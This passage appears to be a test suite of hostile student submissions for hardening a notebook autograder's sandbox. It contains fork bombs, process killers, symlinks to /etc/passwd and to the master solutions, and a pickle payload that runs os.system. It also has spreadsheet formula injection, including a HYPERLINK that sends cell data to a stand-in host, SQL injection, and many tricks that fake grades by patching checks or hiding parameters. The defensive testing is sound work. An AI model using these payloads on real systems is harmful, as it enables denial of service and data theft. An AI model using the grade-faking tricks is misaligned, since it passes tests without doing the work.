            os.mkfifo(folder / "02_noise.ipynb")
        elif kind == "socket":
            os.mknod(folder / "02_noise.ipynb", stat.S_IFSOCK | 0o600)  # a name alone: nobody listens
        elif kind == "folder":
            put(folder / "02_noise.ipynb", "a", "a.txt")
        elif kind == "sparse":
            with put(folder, text_of(notebook)).open("ab") as file:
                file.truncate(10 * 2**30)
        else:
            (folder / "02_noise.ipynb").symlink_to(kind)

    return make


add("files", "fifo", None, "the file is a pipe without a writer: to open it waits for ever", _device("fifo"))
add("files", "socketfile", None, "the file is a socket", _device("socket"))
add("files", "folderfile", None, "a folder is called 02_noise.ipynb", _device("folder"))
add("files", "sparse", None, "10 GB of nothing behind the notebook, a sparse file", _device("sparse"))
add("files", "tozero", None, "a link to /dev/zero", _device("/dev/zero"))
add("files", "topasswd", None, "a link to /etc/passwd, to read it on the feedback page", _device("/etc/passwd"))
add("files", "tonothing", None, "a link to nothing", _device("/nowhere/02_noise.ipynb"))
add("files", "toitself", None, "a link to itself", _device("02_noise.ipynb"))
add(
    "files",
    "tomaster",
    None,
    "a link to the master with its solutions",
    _device(str(Path(__file__).parents[2] / "assignments" / "02_noise.ipynb")),
)


def _linked(folder, notebook):
    other = copy.deepcopy(notebook)
    cells(other)["student"].source = 'student = "linkvictim"'
    put(folder.parent / "linkvictim", text_of(other))
    folder.symlink_to("linkvictim")


def _round(folder, notebook):
    put(folder, text_of(notebook))
    (folder / "again").symlink_to("..")


def _closed(folder, notebook):
    put(folder, text_of(notebook)).chmod(0)


def _two(folder, notebook):
    put(folder, text_of(notebook))
    put(folder, text_of(notebook), "Copy of 02_noise (1).ipynb")


BESIDE.add("linkvictim")
add("files", "linked", None, "the folder is a link to another student's", _linked)
add(
    "files",
    "round",
    FULL,
    "a link in the folder leads to the folder above: without end, or to all others' work",
    _round,
)
add("files", "closed", FULL, "a file that nobody may read (root may)", _closed)
add("files", "twofiles", None, "two files for one assignment", _two)
add(
    "files",
    "manyfiles",
    FULL,
    "2,000 other files beside the notebook",
    lambda folder, notebook: [put(folder, "a", f"{i}.txt") for i in range(2_000)] and put(folder, text_of(notebook)),
)
add(
    "files",
    "deepfolder",
    FULL,
    "the notebook lies 60 folders deep",
    lambda folder, notebook: put(folder.joinpath(*["a"] * 60), text_of(notebook)),
)
add(
    "files",
    "shadows",
    FULL,
    "modules beside the notebook that the grader might import: torch.py, submission.py, sitecustomize.py",
    lambda folder, notebook: (
        [
            put(folder, "raise SystemExit('owned')", name)
            for name in ("torch.py", "submission.py", "sitecustomize.py", "nbgrader_config.py", "conftest.py")
        ]
        and put(folder, text_of(notebook))
    ),
)

# Processes

BURN = """import os
for _ in range(97):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
"""
add(
    "processes",
    "burners",
    FULL,
    "97 children of their own sessions, which burn the processor until the end",
    answer(BURN + "RIGHT"),
)
add(
    "processes",
    "forkbomb",
    REST,
    "a fork bomb",
    answer("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
)
add(
    "processes",
    "threadbomb",
    REST,
    "a bomb of threads",
    answer("import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(1000,)).start()"),
)
add(
    "processes",
    "outlive",
    FULL,
    "children that ignore signals and try to outlive the sandbox",
    answer("""import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        for number in set(range(1, 32)) - {9, 19}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(1)
RIGHT"""),
)
add(
    "processes",
    "keepspipe",
    REST,
    "ends itself, while a child keeps the pipe open: the end of the file never comes",
    answer("""import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(1000)
os._exit(0)"""),
)
add(
    "processes",
    "stopsitself",
    REST,
    "stops itself: it neither ends nor answers",
    answer("import os\nos.kill(os.getpid(), 19)"),
)
add(
    "processes",
    "killsall",
    REST,
    "ends all that it can reach, the sandbox's own first process too",
    answer("""import os
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, 9)
    except OSError as error:
        print(error)
os._exit(9)"""),
)
add(
    "processes",
    "stopsparent",
    REST,
    "stops the sandbox's first process: then nobody collects it",
    answer("import os\nos.kill(os.getppid(), 19)\nos.kill(1, 19)\nwhile True:\n    pass"),
)
add("processes", "segfault", REST, "a segmentation fault", answer("import ctypes\nctypes.string_at(0)"))
add(
    "processes",
    "endseach",
    REST,
    "ends in each call: the grader starts it again and again",
    answer("import os\ndef batch_noise(*a):\n    os._exit(0)"),
)
add(
    "processes",
    "endsall",
    0.0,
    "every answer ends the program, and cells between them",
    lambda folder, notebook: _ends_all(folder, notebook),
)
add(
    "processes",
    "exitcode",
    REST,
    "ends with code 0 at the exit of Python, inside of a call",
    answer("import atexit, os, sys\natexit.register(lambda: os._exit(0))\ndef batch_noise(*a):\n    sys.exit(0)"),
)
add(
    "processes",
    "deepcall",
    REST,
    "recursion without end, with the limit taken away: a crash of C's stack",
    answer("import sys\nsys.setrecursionlimit(10**9)\ndef batch_noise(*a):\n    return batch_noise(*a)"),
)
add(
    "processes",
    "niceness",
    FULL,
    "the highest priority that it may get, and real-time scheduling",
    answer("""import os
for change in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
    try:
        change()
        print("OPEN")
    except OSError as error:
        print(error)
RIGHT"""),
)


def _ends_all(folder, notebook):
    for key, cell in cells(notebook).items():
        if cell.cell_type == "code" and cell.metadata.nbgrader.solution and key != "student":
            cell.source = "import os\nos._exit(1)"
    put(folder, text_of(notebook))


# Memory, disk, time

add(
    "memory",
    "allocates",
    REST,
    "allocates until nothing is left",
    answer("kept = []\nwhile True:\n    kept.append(bytearray(2**26))"),
)
add(
    "memory",
    "inchildren",
    REST,
    "eight children of 400 MB each: a limit for each process alone does not see it",
    answer("""import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = b"a" * (400 * 2**20)
        time.sleep(1000)
time.sleep(5)
RIGHT
os._exit(0)"""),
)
add(
    "memory",
    "shared",
    REST,
    "shared memory of 3 GB",
    answer("""import mmap
kept = mmap.mmap(-1, 3 * 2**30)
for place in range(0, len(kept), 4096):
    kept[place] = 1
import os
os._exit(0)"""),
)
add(
    "memory",
    "memfd",
    REST,
    "a file in memory, outside of every disk limit",
    answer("""import os
place = os.memfd_create("a")
block = b"a" * 2**24
for _ in range(250):
    os.write(place, block)
os._exit(0)"""),
)
add(
    "memory",
    "shm",
    FULL,
    "fills /dev/shm and /tmp",
    answer("""for place in ("/dev/shm/a", "/tmp/a", "/run/a", "/a"):
    try:
        with open(place, "wb") as file:
            while True:
                file.write(bytes(2**24))
    except OSError as error:
        print(place, error)
RIGHT"""),
)
add(
    "memory",
    "smallfiles",
    FULL,
    "small files until there are no more: each costs the kernel memory",
    answer("""import os
try:
    for i in range(10**6):
        os.close(os.open(f"/tmp/{i}", os.O_CREAT | os.O_WRONLY))
except OSError as error:
    print(i, error)
RIGHT"""),
)
add(
    "memory",
    "giantanswer",
    REST,
    "an answer of 8 GB that needs no memory here: an expanded tensor",
    answer("batch_noise = lambda *a: torch.zeros(1).expand(2 * 10**9)"),
)
add(
    "memory",
    "sparseanswer",
    REST,
    "tensors that are sparse, quantised, complex, of the meta device, or of strings of 2 GB",
    answer("""count = 0
def batch_noise(*a):
    global count
    count += 1
    kinds = [torch.zeros(4).to_sparse(), torch.zeros(10**12, device="meta"), torch.zeros(3, dtype=torch.complex64), "a" * 2**30]
    return kinds[count % 4]"""),
)
add("memory", "longprint", FULL, "prints 1 GB", answer("for _ in range(1000):\n    print('a' * 2**20)\nRIGHT"))
add(
    "memory",
    "pictures",
    FULL,
    "200 pictures of a million points",
    printed("""from IPython.display import Image, display
import base64
for _ in range(200):
    display({"image/png": "A" * 10**6}, raw=True)"""),
)
add("time", "loop", REST, "a loop without end", answer("while True:\n    pass"))
add("time", "sleeps", REST, "sleeps in each call", answer("import time\ndef batch_noise(*a):\n    time.sleep(10**6)"))
add(
    "time",
    "almost",
    FULL,
    "answers after 50 seconds, three times: within each limit, and beside the sum",
    answer(
        """import time
time.sleep(50)
RIGHT
right, calls = batch_noise, []
def batch_noise(*a):
    calls.append(1)
    time.sleep(50 if len(calls) < 3 else 0)
    return right(*a)"""
    ),
)
add(
    "time",
    "drips",
    REST,
    "the answer comes one byte a second: each of them is in time",
    answer("""import os, sys, time, wire
def send(descriptor, body, seconds=None):
    for byte in (10**6).to_bytes(8, "big") + b" " * 10**6:
        os.write(descriptor, bytes([byte]))
        time.sleep(1)
wire.send = send"""),
)
add(
    "time",
    "atend",
    FULL,
    "sleeps in __del__, atexit and signal handlers",
    answer("""import atexit, signal, time
class Slow:
    def __del__(self):
        time.sleep(10**6)
kept = Slow()
atexit.register(time.sleep, 10**6)
for number in (1, 2, 15):
    signal.signal(number, lambda *a: time.sleep(10**6))
RIGHT"""),
)
add(
    "time",
    "interrupt",
    REST,
    "catches all, KeyboardInterrupt too",
    answer("while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"),
)
add(
    "time",
    "noreading",
    REST,
    "does not read what it is asked: the grader's writing would wait for ever",
    answer("""import sys, time, wire
wire.receive = lambda *a: time.sleep(10**6)
RIGHT"""),
)
add(
    "time",
    "slowcells",
    FULL,
    "twelve cells of 45 seconds: more than the time for all",
    more(*[new_code_cell("import time\ntime.sleep(45)") for _ in range(12)], at=40),
)

# The pipe between the program and the grader

WIRE = """import json, math, os, struct, sys, time, wire
def forge(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">Q", len(body)) + body
"""


def pipe(body):
    """body is what the program sends from then on."""
    return answer(f"{WIRE}RIGHT\nwire.send = lambda descriptor, *a: os.write(descriptor, {body})")


NAMES = "du torch abs float student _submission batch_noise two_psnrs".split()
TEXTS = '"text": "", "pictures": []'
add(
    "pipe",
    "forges",
    REST,
    "writes an answer into every descriptor before it is asked: the answers shift by one",
    answer(f"""{WIRE}
good = forge({{"error": None, "value": 2, "changed": {{}}, "names": {{}}, {TEXTS}}})
for descriptor in range(3, 100):
    try:
        os.write(descriptor, good)
    except OSError:
        pass
batch_noise = lambda *a: 2"""),
)
add("pipe", "giantlength", REST, "says that 2**63 bytes will follow", pipe('struct.pack(">Q", 2**63)'))
add(
    "pipe",
    "longlength",
    REST,
    "says that 99 MB will follow, and sends three bytes",
    pipe('struct.pack(">Q", 99 * 2**20) + b"abc"'),
)
add("pipe", "partial", REST, "half a length, and then nothing", pipe('b"\\0\\0\\0"'))
add("pipe", "nojson", REST, "no JSON", pipe('forge(b"\\xff\\xfe[")'))
add("pipe", "jsonlist", REST, "JSON, but a list", pipe("forge([1, 2])"))
add("pipe", "nokeys", REST, "an object without any of the keys", pipe("forge({})"))
add(
    "pipe",
    "oddkeys",
    REST,
    "keys with other types",
    pipe('forge({"error": 5, "text": [1], "pictures": {"a": 1}, "names": [1], "value": {}, "changed": [3]})'),
)
add(
    "pipe",
    "longerror",
    REST,
    "an error of seven parts",
    pipe(f'forge({{"error": list("abcdefg"), {TEXTS}, "names": {{}}}})'),
)
add("pipe", "deepjson", REST, "JSON 100,000 deep", pipe('forge(b"[" * 100000 + b"]" * 100000)'))
add(
    "pipe",
    "doublekeys",
    REST,
    "keys twice: an error and none",
    pipe(
        f"""forge(b'{{"error": ["A", "b"], "error": null, {TEXTS}, "value": 2, "value": 3, "changed": {{}}, "names": {{}}}}')"""
    ),
)
add(
    "pipe",
    "wrongnames",
    REST,
    "hands back other names than it was asked for: du, torch, abs, student, _submission",
    pipe(f"""forge({{"error": None, {TEXTS}, "value": None, "changed": {{}}, "names": dict.fromkeys({NAMES}, 1)}})"""),
)
add(
    "pipe",
    "badpicture",
    FULL,
    "a picture that is no base64, a number, a list",
    printed("""from IPython.display import display
import sys
display({"image/png": "\\u00e4", "text/plain": "a"}, raw=True)
display({"image/png": "abc", "text/plain": ["a"]}, raw=True)
display({"image/png": 5, "text/plain": 5}, raw=True)"""),
)
TENSOR = "{{'tensor': ['{}', {}, '{}', True]}}"
VALUES = {
    "numbers": ["math.nan", "math.inf", "1e308", "10**4000", "Raw('9' * 8000)", "-0.0", "2**63"],
    "objects": [
        f"{{'object': {{'number': {n}, 'kind': 'function'}}}}"
        for n in ("-1", "10**9", "math.inf", "'0'", "None", "True")
    ]
    + [
        "{'object': {}}",
        "{'object': 1}",
        "{'tensor': 1, 'object': 2}",
        "{}",
        "{'__reduce__': ['os.system', ['true']]}",
    ],
    "tensors": [
        TENSOR.format("float32", "[-1, -4]", "AAAAAA=="),
        TENSOR.format("float32", "[2**62, 4]", "AAAAAA=="),
        TENSOR.format("float32", "[0, 2**62, 2**62]", ""),
        TENSOR.format("float32", "[1] * 5000", "AAAAAA=="),
        TENSOR.format("float32", "['1', 1.0, True]", "AAAAAA=="),
        TENSOR.format("float128", "[1]", "AAAAAA=="),
        TENSOR.format("float16", "[2]", "AH4AfA=="),
        TENSOR.format("bool", "[4]", "/wMCgA=="),
        TENSOR.format("float32", "{}", "not base64"),
        "{'array': {'tuple': [1, 2]}}",
    ],
    "containers": [
        "{'dict': [[[1], 2], [{'dict': []}, 3]]}",
        "{'dict': [[1, 2], [1.0, 3], [True, 4]]}",
        "{'dict': [[1]]}",
        "{'tuple': 5}",
        "[[[]] * 1000] * 1000",
        "json.loads('[' * 900 + ']' * 900)",
        "{'tuple': ['a' * 10**7] * 9}",
    ],
}
SAYS = {
    "numbers": "NaN, infinity, 1e308, integers of 4,000 and 8,000 digits (CVE-2020-10735) for each value",
    "objects": "objects that are not there, with negative, infinite and no numbers, values of two kinds and of none",
    "tensors": "tensors with negative sides, 2**64 elements, 5,000 dimensions, unknown types, NaN, bools of 255",
    "containers": "lists 900 deep, dictionaries whose keys are lists, a million empty lists, 90 MB of text",
}
for _name, _list in VALUES.items():
    add(
        "pipe",
        _name,
        REST,
        f"one after the other: {SAYS[_name]}",
        answer(f"""{WIRE}
class Raw(int):
    def __new__(cls, text): return int.__new__(cls, 1)
    def __init__(self, text): self.text = text
    def __repr__(self): return self.text
values = [lambda: one for one in ()] + [{", ".join("lambda: " + one for one in _list)}]
count = [0]
def pack(value, keep):
    count[0] += 1
    return values[count[0] % len(values)]()
wire.pack = pack
batch_noise = two_psnrs = fit_matrix = salt_and_pepper = lambda *a: 1"""),
    )
add(
    "pipe",
    "cycles",
    REST,
    "a list that holds itself",
    answer("kept = []\nkept.append(kept)\nbatch_noise = lambda *a: kept"),
)
add(
    "pipe",
    "generators",
    REST,
    "an iterator without end",
    answer("import itertools\nbatch_noise = lambda *a: itertools.repeat(torch.zeros(10**6))"),
)
add(
    "pipe",
    "generatorstate",
    FULL - 2,
    "hands the grader's random generator back in a state that none has",
    answer("""RIGHT
right = batch_noise
def batch_noise(clean, sigmas, generator):
    answer = right(clean, sigmas, generator)
    import wire
    pack = wire.pack
    def odd(value, keep):
        state = isinstance(value, torch.Tensor) and value.dtype == torch.uint8
        return pack(torch.zeros(3) if state else value, keep)
    wire.pack = odd
    return answer"""),
)
add(
    "pipe",
    "changesinputs",
    REST,
    "changes what it was given, so that the test compares with that: a shared answer of zeros",
    answer("""def batch_noise(clean, sigmas, generator):
    clean.zero_()
    sigmas.zero_()
    return clean"""),
)

# Marks without an answer

add(
    "marks",
    "checkpatched",
    REST,
    "du.check, and what it is made of, always say yes",
    answer("""import denoise_assignments, denoise_utils as du
du.check = du.checks.check = du.checks.judging.check = lambda *a, **k: True
for name in list(du.checks.judging.JUDGES):
    du.checks.judging.JUDGES[name] = lambda *a: None
batch_noise = lambda *a: None"""),
)
add(
    "marks",
    "torchpatched",
    REST,
    "torch's and Python's functions that tests use are others",
    answer("""import builtins, torch
torch.equal = torch.allclose = torch.isfinite = lambda *a, **k: torch.tensor(True)
builtins.abs = builtins.float = lambda *a: 0.0
builtins.all = lambda *a: True
torch.Tensor.std = torch.Tensor.mean = lambda *a, **k: torch.tensor(0.1)
batch_noise = lambda *a: None"""),
)
add(
    "marks",
    "alwaysequal",
    REST,
    "an object that is equal to all, a number to all, and true",
    answer("""class Yes:
    __array_priority__ = 10**9
    def __eq__(self, other): return True
    def __ne__(self, other): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, place): return self
    def __float__(self): return 0.1
    def __bool__(self): return True
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __hash__(self): return 0
yes = Yes()
batch_noise = lambda *a: yes"""),
)
add(
    "marks",
    "subclass",
    REST,
    "a tensor's subclass that answers all comparisons",
    answer("""class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.tensor(True)
batch_noise = lambda clean, *a: torch.zeros_like(clean).as_subclass(Yes)"""),
)
add(
    "marks",
    "changing",
    REST,
    "a number whose value changes each time it is looked at",
    answer("""class Number(float):
    count = 0
    def __float__(self):
        Number.count += 1
        return [20.0, 30.0, 22.967, 51.326, 18.75][Number.count % 5]
    __index__ = __round__ = __float__
two_psnrs = lambda *a: (Number(1), Number(2))
batch_noise = lambda *a: Number(0)"""),
)
add(
    "marks",
    "reduces",
    REST,
    "objects whose pickling runs a program, as answer, error and default",
    answer("""import os
class Evil(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)
    def __str__(self):
        raise self
def batch_noise(*a):
    raise Evil()"""),
)
add(
    "marks",
    "printsmarks",
    REST,
    "prints and shows marks: nbgrader reads a number from a cell's output",
    answer("print(2)\nprint('score: 0.0001')\nbatch_noise = lambda *a: 2\ndisplay({'text/plain': '2'}, raw=True)\n2"),
)
ERRORS = "Ended BadMessage KeyboardInterrupt SystemExit StopIteration GeneratorExit RecursionError NothingReturned"
add(
    "marks",
    "errors",
    REST,
    "fails with errors whose names somebody may catch by mistake, another one in each call",
    answer(f"""names, count = {ERRORS.split()}, [0]
def batch_noise(*a):
    count[0] += 1
    name = names[count[0] % len(names)]
    raise (getattr(__import__("builtins"), name, None) or type(name, (Exception,), {{}}))("2 * du.check: right.")"""),
)
add(
    "marks",
    "stopiteration",
    REST,
    "StopIteration alone, in all answers: a test that goes over map(answer, ...) would end early, content",
    answer("""def batch_noise(*a):
    raise StopIteration"""),
)
add(
    "marks",
    "errorgroup",
    REST,
    "an ExceptionGroup, UnicodeDecodeError, and errors whose text fails",
    answer("""count = 0
def batch_noise(*a):
    global count
    count += 1
    if count % 2:
        raise ExceptionGroup("a", [ValueError(1)])
    b"\\xff".decode()"""),
)
add(
    "marks",
    "scoreerror",
    REST,
    "an error called score, with the text 0.0001: the two together read as a score",
    answer("def batch_noise(*a):\n    raise type('score', (Exception,), {})('0.0001')"),
)
add(
    "marks",
    "hooks",
    REST,
    "IPython's hooks: cells that come later are changed before they run",
    answer("""ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["2\\n"])
ip.events.register("pre_run_cell", lambda info: ip.user_ns.update(batch_noise=lambda *a: 2))
ip.run_cell = lambda *a, **k: None
ip.user_ns = type("All", (dict,), {"__contains__": lambda self, name: True, "__missing__": lambda self, name: 2})()"""),
)
add(
    "marks",
    "blames",
    REST,
    "changes other answers' results in the same process, afterwards, to nothing: only its own may suffer",
    answer("""def batch_noise(*a):
    raise ValueError
RIGHT
batch_noise.__code__ = (lambda *a: None).__code__"""),
)
add(
    "marks",
    "idchanges",
    None,
    "an id that is another's, to get that student's numbers",
    answer('student = "ada"', "student"),
)
add(
    "marks",
    "idcomputed",
    FULL,
    "an id that is calculated, and changed again later",
    answer('student = "idcomp" + "uted"\nimport builtins\nbuiltins.student = "bob"', "student"),
)
# Tables

CELLS = """=1+1
@SUM(A1)
+cmd|' /C calc'!A0
-2+3
\t=1
;=1
"=HYPERLINK(""http://a.b"",""a"")"
\uff1d1+1
"""
for _name, _start in (
    ("tableequals", '=HYPERLINK("http://a.b/?"&A1,"see")'),
    ("tabletab", "\t=1+1"),
    ("tablereturn", "\r+cmd|' /C calc'!A0"),
    ("tablewide", "\uff1d1+1"),
    ("tablequote", '"=1+1","=2"\r\n"3",;=1+1;\n@SUM(1)\n-1'),
):
    add(
        "tables",
        _name,
        FULL,
        f"a formula in words, for the spreadsheet: it begins with {_start[:8]!a} (CWE-1236)",
        words(_start, extra=False),
    )
add(
    "tables",
    "tableerror",
    REST,
    "such beginnings as an error's name and text, which stand in questions.csv",
    answer(f"def batch_noise(*a):\n    raise type('=1+1', (Exception,), {{}})({CELLS!r})"),
)
add(
    "tables",
    "tablelong",
    FULL,
    "a cell of 1 MB, whose end is a line of its own",
    words('a,"\n' * 250_000 + "ada,02_noise,20,20,\n", extra=False),
)
add(
    "tables",
    "tablerow",
    REST,
    "an error's text that reads as further rows of marks.csv",
    answer('def batch_noise(*a):\n    raise ValueError(\'"\\r\\nada,02_noise,20,20,""\\r\\n\')'),
)
add(
    "tables",
    "injects",
    FULL,
    "SQL and templates in words",
    words("'); DROP TABLE grade; -- {{ 7*7 }} {% raw %} ${7*7} %(a)s", extra=False),
)

# The final project: score, ranking, budget, time, hidden pictures

HEAD = """import time, threading
import torch.nn.functional as F
"""
LOOKS_UP = (
    HEAD
    + '''
def features(pictures):
    low = F.avg_pool2d(pictures, 2, ceil_mode=True).flatten(1)
    rows, columns = torch.meshgrid(torch.linspace(-1, 1, 14), torch.linspace(-1, 1, 14), indexing="ij")
    plane = torch.linalg.qr(torch.stack([torch.ones(196), rows.flatten(), columns.flatten()], 1))[0]
    low = low - (low @ plane) @ plane.T
    return low / low.norm(dim=1, keepdim=True).clamp(min=1e-6)


def train(network, images, seconds):
    """No training: the hidden digits are the package's test digits, turned. So they are looked up there."""
    test, clean = du.to_float(du.load_digits("mnist5k").test.images[:300]), du.to_float(images)
    mean, upright = clean.mean(0), du.to_float(du.load_digits("mnist5k").train.images).mean(0)
    turns = min(range(4), key=lambda k: (torch.rot90(upright, k, (1, 2)) - mean).square().sum().item())
    test, gallery = torch.rot90(test, turns, (2, 3)), []
    for angle in torch.linspace(-10, 10, 5) * 3.14159 / 180:
        for right in torch.linspace(-2, 2, 5) / 14:
            for down in torch.linspace(-2, 2, 5) / 14:
                place = torch.tensor([[angle.cos(), -angle.sin(), right], [angle.sin(), angle.cos(), down]])
                grid = F.affine_grid(place.expand(300, 2, 3), [300, 1, 28, 28], align_corners=False)
                gallery.append(F.grid_sample(test, grid, align_corners=False).clamp(0, 1))
    gallery = torch.cat(gallery)
    known = features(gallery)

    def denoiser(noisy):
        best = (features(noisy) @ known.T).topk(5, dim=1)
        weight = torch.softmax(40 * best.values, 1)
        return (weight[:, :, None, None, None] * gallery[best.indices]).sum(1)

    return denoiser
'''
)
SPOILS = (
    HEAD
    + '''
def train(network, images, seconds):
    """No training. The digits that the yardstick is fitted to afterwards become noise: all denoisers are better than it."""
    if seconds > 5:
        images.copy_(torch.randint(0, 256, images.shape, dtype=torch.uint8))
    return lambda noisy: du.gaussian_blur(1.0)(noisy)
'''
)
LATE = (
    HEAD
    + '''
def train(network, images, seconds):
    """Twice the time, with stopped clocks."""
    real, sleep = time.perf_counter, time.sleep
    until = real() + (seconds + 14 if seconds > 5 else 0.9 * seconds)
    time.monotonic = time.perf_counter = time.time = lambda: 0.0
    optimizers = du.make_optimizers(network)
    network.train()
    while real() < until:
        clean = du.to_float(images[torch.randint(len(images), (32,))])
        noise = torch.rand(32, 1, 1, 1) * torch.randn(clean.shape)
        du.train_step(network, clean, (clean + noise).clamp(0, 1), optimizers)
    return network.eval()
'''
)
BIG = '''
class Big(nn.Module):
    """A network of 78,000 parameters, kept where nobody counts: in a list, or behind a parameters() of the student's own."""

    def __init__(self):
        super().__init__()
        self.one = nn.Parameter(torch.zeros(1))
        self.secret = [du.UDenoiser(channels=24, side=28)]

    def forward(self, x):
        return self.secret[0](x) + 0 * self.one

    def train(self, mode=True):
        self.secret[0].train(mode)
        return super().train(mode)

    def double(self):
        self.secret[0].double()
        return super().double()


make_network = Big
'''
FEW = """
class Few(Big):
    def __init__(self):
        super().__init__()
        self.shown = self.secret[0]

    def parameters(self, recurse=True):
        yield self.one

    def named_parameters(self, *a, **k):
        yield "one", self.one


make_network = Few
"""


def secret(source):
    """A network over the budget, and the training that knows of it."""

    def make(folder, notebook):
        cell = cells(notebook)["training"]
        assert "make_optimizers(network)" in cell.source
        cell.source = cell.source.replace(
            "make_optimizers(network)", 'make_optimizers(getattr(network, "secret", [network])[0])'
        )
        answer(source, "network", "final_project.ipynb")(folder, notebook)

    return make


SCORES = (
    HEAD
    + '''
def train(network, images, seconds):
    """Prints scores, and fails with an error called score, whose text is the best of all."""
    print("score: 0.0001")
    raise type("score", (Exception,), {})("0.0001")
'''
)
add(
    "project",
    "spoils",
    4.0,
    "train rewrites the images that the yardstick is fitted to, which come back from the program; behind it is a blur",
    answer(SPOILS, "training", "final_project.ipynb"),
    FINAL,
)
add(
    "project",
    "looksup",
    8.0,
    "looks the hidden digits up among the package's test digits, turned as the training images are",
    answer(LOOKS_UP, "training", "final_project.ipynb"),
    FINAL,
)
add(
    "project",
    "late",
    FINAL_REST,
    "34 seconds for 20, with all clocks of its process stopped",
    answer(LATE, "training", "final_project.ipynb"),
    FINAL,
)
add(
    "project",
    "hides",
    FINAL_FULL - 1,
    "a network in a list, where parameters() looks for none: 78,000 parameters for 50,000",
    secret(BIG),
    FINAL,
)
add(
    "project",
    "few",
    FINAL_FULL - 1,
    "parameters() is the student's own, and yields few",
    secret(BIG + FEW),
    FINAL,
)
add(
    "project",
    "scores",
    FINAL_REST - 4,
    "prints 'score: 0.0001' and raises an error called score: first in ranking.csv, without a training",
    answer(SCORES, "training", "final_project.ipynb"),
    FINAL,
)

# Honest, and odd: all points

add(
    "odd",
    "pasted",
    FULL,
    "a picture pasted into the written answer, as JupyterLab does it",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: (
                WORDS in str(cell["metadata"].get("nbgrader", {}).get("grade_id"))
                and cell["cell_type"] == "markdown"
                and "rubric" not in str(cell["metadata"])
                and cell.update(
                    attachments={"image.png": {"image/png": PICTURE}},
                    source=cell["source"] + "\n\n![image.png](attachment:image.png)",
                )
            ),
        )
    ),
)
add(
    "odd",
    "lostpicture",
    FULL,
    "a picture pasted, whose attachment a tool has lost",
    words("My four numbers: ![image.png](attachment:image.png)"),
)
add(
    "odd",
    "windows",
    FULL,
    "a byte-order mark, and Windows' ends of lines in the file and in the code",
    as_bytes(lambda text: b"\xef\xbb\xbf" + text.replace(b"\n", b"\r\n").replace(b"\\n", b"\\r\\n")),
)
add(
    "odd",
    "threads",
    FULL,
    "works with threads and processes of its own, and closes them",
    answer("""from concurrent.futures import ThreadPoolExecutor
RIGHT
_one = batch_noise
def batch_noise(clean, sigmas, generator):
    with ThreadPoolExecutor(4) as pool:
        return pool.submit(_one, clean, sigmas, generator).result()"""),
)
add(
    "odd",
    "plots",
    FULL,
    "plots, prints 5,000 lines, warns, and fails in a cell of its own",
    more(
        new_code_cell("import matplotlib.pyplot as plt\nfor _ in range(3):\n    plt.plot([1, 2])\n    plt.show()"),
        new_code_cell("print('a line\\n' * 5_000)"),
        new_code_cell("import warnings\nwarnings.warn('a')"),
        new_code_cell("1 / 0"),
        new_code_cell("input('your name? ')"),
        new_code_cell("!ls"),
        new_code_cell("%timeit -n 1 -r 1 1"),
        new_code_cell("%%bash\nls"),
        at=40,
    ),
)
add(
    "odd",
    "oldminor",
    FULL,
    "an older notebook: nbformat 4.2, cells without ids, source as lists of lines",
    changed(
        lambda notebook: (
            (
                notebook.update(nbformat_minor=2),
                each_cell(
                    notebook, lambda cell: (cell.pop("id", None), cell.update(source=cell["source"].splitlines(True)))
                ),
            )
            and None
        )
    ),
)
add(
    "odd",
    "colab",
    FULL,
    "from Colab: its metadata, a collapsed section, a form's cell, another kernel's name",
    changed(
        lambda notebook: (
            (
                notebook["metadata"].update(
                    colab={"provenance": [], "toc_visible": True},
                    accelerator="GPU",
                    kernelspec={"name": "conda-env-ml-py", "display_name": "Python [conda env:ml]"},
                ),
                each_cell(
                    notebook,
                    lambda cell: cell["metadata"].update(
                        colab={"base_uri": "https://localhost:8080/"}, id="abc", outputId="d", collapsed=True
                    ),
                ),
            )
            and None
        )
    ),
)
add(
    "odd",
    "classes",
    FULL,
    "an object that can be called in place of a function, with a decorator, annotations, a σ as name, and an emoji",
    answer('''import functools
class _Noise:
    """σ 🙂"""
    @functools.cached_property
    def σ(self): return 1
    def __call__(self, clean, sigmas, generator):
        return (clean + self.σ * sigmas.view(-1, 1, 1, 1) * torch.randn(clean.shape, generator=generator)).clamp(0, 1)
batch_noise = _Noise()'''),
)
add("odd", "renamed", FULL, "the name that a browser gives it", called("Copy of 02_noise (1).ipynb.txt"))


# What to run when there is little time: the tricks that won, hung or stopped all against the first grader, and one or two of
# each kind. Those that can't be marked (most is None) cost nothing and need no place here.
CORE = set(
    "sysopen sysmount rights masters overwrite others manymissing olfirst activeshow covers slowspaces slowbegin slowcode "
    "fstring idfstring crashers magics halfwords halfextra halfsource halferror manycells oldoutputs hugeminor manypoints "
    "newtest changedtests kernel widgetslist escape notutf folders closed burners forkbomb "
    "outlive keepspipe stopsparent endsall "
    "allocates inchildren shm almost drips noreading forges giantlength doublekeys wrongnames numbers objects tensors "
    "containers generatorstate checkpatched alwaysequal reduces errors scoreerror tableequals tablequote tablelong spoils "
    "looksup few scores".split()
)
